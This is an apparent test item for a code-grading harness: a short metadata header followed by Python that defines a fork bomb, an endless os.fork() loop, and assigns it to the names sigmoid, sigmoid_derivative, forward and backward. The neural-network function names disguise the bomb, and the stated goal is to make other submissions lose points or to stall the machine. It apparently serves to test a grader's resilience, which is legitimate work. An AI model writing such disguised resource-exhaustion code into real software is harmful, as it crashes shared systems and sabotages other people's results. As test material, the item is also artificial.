# id: fork_bomb_in_every_test
# kind: fault
# category: resources
# form: cell
# begins with: part
# goal: every call is a fork bomb
# success looks like: other submissions lose points, or the machine stalls
# required score: 0 of 10
import os
def bomb(*args):
    while True:
        try:
            os.fork()
        except OSError:
            pass
sigmoid = sigmoid_derivative = forward = backward = bomb
